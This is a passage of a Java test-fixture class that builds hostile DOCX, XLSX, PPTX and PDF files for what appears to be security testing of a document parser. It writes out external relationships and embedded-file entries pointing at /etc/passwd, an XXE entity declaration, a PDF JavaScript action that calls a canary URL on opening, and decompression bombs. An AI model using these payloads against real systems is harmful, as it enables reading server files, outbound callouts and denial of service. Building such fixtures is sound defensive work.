            zip.write(utf8("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<manifest:manifest "
                    + "xmlns:manifest=\"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0\" manifest:version=\"1.2\">"
                    + "<manifest:file-entry manifest:full-path=\"/\" manifest:media-type=\"application/vnd.oasis.opendocument.text\"/>"
                    + "<manifest:file-entry manifest:full-path=\"content.xml\" manifest:media-type=\"text/xml\"/></manifest:manifest>"));
            zip.closeEntry();
            zip.putNextEntry(new ZipEntry("content.xml"));
            zip.write(utf8(contentXml));
            zip.closeEntry();
        }
        return out.toByteArray();
    }

    /** The package with external relationships added to {@code relsPart}: a server file and canary addresses. */
    static byte[] externalRelationships(byte[] zip, String relsPart, String canary, String secretUri) throws IOException {
        String rels;
        try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(zip))) {
            ZipEntry e;
            do {
                e = in.getNextEntry();
            } while (e != null && !e.getName().equals(relsPart));
            rels = e == null ? null : new String(in.readAllBytes(), StandardCharsets.UTF_8);
        }
        String base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
        String extra = "<Relationship Id=\"rIdH1\" Type=\"" + base + "image\" Target=\"" + canary + "/rel-image.png\" TargetMode=\"External\"/>"
                + "<Relationship Id=\"rIdH2\" Type=\"" + base + "subDocument\" Target=\"file:///etc/passwd\" TargetMode=\"External\"/>"
                + "<Relationship Id=\"rIdH3\" Type=\"" + base + "attachedTemplate\" Target=\"" + canary + "/template.dotm\" TargetMode=\"External\"/>"
                + "<Relationship Id=\"rIdH4\" Type=\"" + base + "oleObject\" Target=\"" + secretUri + "\" TargetMode=\"External\"/>";
        String updated = rels == null
                ? "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                        + extra + "</Relationships>"
                : rels.replace("</Relationships>", extra + "</Relationships>");
        return replaceEntry(zip, relsPart, utf8(updated));
    }

    /** The package with an external entity declared in {@code part} and referenced right after {@code marker}. */
    static byte[] withEntity(byte[] zip, String part, String marker, String uri) throws IOException {
        String xml = null;
        try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(zip))) {
            for (ZipEntry e; (e = in.getNextEntry()) != null; ) {
                if (e.getName().equals(part)) {
                    xml = new String(in.readAllBytes(), StandardCharsets.UTF_8);
                }
            }
        }
        if (xml == null || !xml.contains(marker)) {
            throw new IllegalStateException(part + " does not hold " + marker);
        }
        int declarationEnd = xml.startsWith("<?xml") ? xml.indexOf("?>") + 2 : 0;
        String withEntity = xml.substring(0, declarationEnd) + "\n<!DOCTYPE x [\n<!ENTITY ext SYSTEM \"" + uri + "\">\n]>"
                + xml.substring(declarationEnd).replace(marker, marker + " &ext;");
        return replaceEntry(zip, part, utf8(withEntity));
    }

    static byte[] xlsx(String text) throws IOException {
        try (var wb = new org.apache.poi.xssf.usermodel.XSSFWorkbook(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            var sheet = wb.createSheet("合同");
            sheet.createRow(0).createCell(0).setCellValue(text);
            sheet.createRow(1).createCell(0).setCellValue("乙方为甲方开发财务管理系统");
            wb.write(out);
            return out.toByteArray();
        }
    }

    static byte[] pptx(String text) throws IOException {
        try (var show = new org.apache.poi.xslf.usermodel.XMLSlideShow(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            var box = show.createSlide().createTextBox();
            box.setText(text + " 乙方为甲方开发财务管理系统");
            show.write(out);
            return out.toByteArray();
        }
    }

    /** A Chinese text PDF naming a server file as an attachment and the canary in a link and in JavaScript run on opening. */
    static byte[] pdfWithExternalReferences(String[] lines, String canary, String marker, String secretUri) throws IOException {
        try (PDDocument doc = Loader.loadPDF(Fixtures.chinesePdf(lines)); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            var passwd = new org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification();
            passwd.setFile("/etc/passwd");
            passwd.setFileUnicode("/etc/passwd");
            var secret = new org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification();
            secret.setFile(secretUri);
            var tree = new org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode();
            tree.setNames(Map.of("passwd", passwd, "secret", secret));
            var names = new org.apache.pdfbox.pdmodel.PDDocumentNameDictionary(doc.getDocumentCatalog());
            names.setEmbeddedFiles(tree);
            doc.getDocumentCatalog().setNames(names);
            var link = new org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink();
            var uri = new org.apache.pdfbox.pdmodel.interactive.action.PDActionURI();
            uri.setURI(canary + "/pdf-link-" + marker);
            link.setAction(uri);
            link.setRectangle(new PDRectangle(50, 50, 100, 20));
            doc.getPage(0).getAnnotations().add(link);
            doc.getDocumentCatalog().setOpenAction(new org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript(
                    "app.launchURL('" + canary + "/pdf-js-" + marker + "', true);"));
            doc.save(out);
            return out.toByteArray();
        }
    }

    /** A Chinese text PDF with an AcroForm whose XFA packet is {@code xfa}. */
    static byte[] xfaPdf(String[] lines, String xfa) throws IOException {
        try (PDDocument doc = Loader.loadPDF(Fixtures.chinesePdf(lines)); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            PDAcroForm form = new PDAcroForm(doc);
            COSStream stream = doc.getDocument().createCOSStream();
            try (OutputStream s = stream.createOutputStream()) {
                s.write(utf8(xfa));
            }
            form.getCOSObject().setItem(COSName.XFA, stream);
            doc.getDocumentCatalog().setAcroForm(form);
            doc.save(out);
            return out.toByteArray();
        }
    }

    /** A one-page PDF whose content stream inflates to {@code bytes} spaces. */
    static byte[] pdfStreamBomb(long bytes) throws IOException {
        try (PDDocument doc = new PDDocument(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            PDPage page = new PDPage(PDRectangle.A4);
            doc.addPage(page);
            COSStream stream = doc.getDocument().createCOSStream();
            try (OutputStream s = stream.createOutputStream(COSName.FLATE_DECODE)) {
                byte[] spaces = new byte[1 << 20];
                Arrays.fill(spaces, (byte) ' ');
                for (long left = bytes; left > 0; left -= spaces.length) {
                    s.write(spaces, 0, (int) Math.min(spaces.length, left));
                }
            }
            page.getCOSObject().setItem(COSName.CONTENTS, stream);
            doc.save(out);
            return out.toByteArray();
        }
    }

    /** A DOCX whose document.xml holds {@code text} and then about {@code bytes} of repeated empty paragraphs. */
    static byte[] docxBomb(String text, long bytes) throws IOException {
        Map<String, byte[]> parts = new TreeMap<>();
        try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(Fixtures.docx(text)))) {
            for (ZipEntry e; (e = in.getNextEntry()) != null; ) {
                parts.put(e.getName(), in.readAllBytes());
            }
        }
        String xml = new String(parts.remove("word/document.xml"), StandardCharsets.UTF_8);
        int bodyEnd = xml.lastIndexOf("<w:sectPr");
        if (bodyEnd < 0) {
            bodyEnd = xml.lastIndexOf("</w:body>");
        }
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            zip.setLevel(Deflater.BEST_COMPRESSION);
            zip.putNextEntry(new ZipEntry("[Content_Types].xml"));
            zip.write(parts.remove("[Content_Types].xml"));
            zip.closeEntry();
            for (var e : parts.entrySet()) {
                zip.putNextEntry(new ZipEntry(e.getKey()));
                zip.write(e.getValue());
                zip.closeEntry();
            }
            zip.putNextEntry(new ZipEntry("word/document.xml"));
            zip.write(utf8(xml.substring(0, bodyEnd)));
            byte[] paragraph = utf8("<w:p/>");
            byte[] block = new byte[paragraph.length * 10_000];
            for (int i = 0; i < 10_000; i++) {
                System.arraycopy(paragraph, 0, block, i * paragraph.length, paragraph.length);
            }
            for (long left = bytes; left > 0; left -= block.length) {
                zip.write(block);
            }
            zip.write(utf8(xml.substring(bodyEnd)));
            zip.closeEntry();
        }
        return out.toByteArray();
    }
}
